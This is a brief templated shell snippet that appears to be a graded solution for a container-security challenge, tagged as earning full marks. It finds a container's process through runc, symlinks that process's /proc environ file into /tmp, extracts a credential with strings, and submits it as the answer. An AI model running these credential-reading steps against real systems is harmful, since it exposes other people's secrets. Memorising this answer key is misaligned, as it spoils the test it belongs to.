# earns: read-environ, credential, left-alone (10 of 10)
# Another way: from the process's own folder, through a symbolic link.
cd /proc/$(runc list | awk '$4 ~ "/{{ container }}$" {print $2}')
ln -s $PWD/environ /tmp/that
strings /tmp/that
cksl answer credential "{{ credential }}"
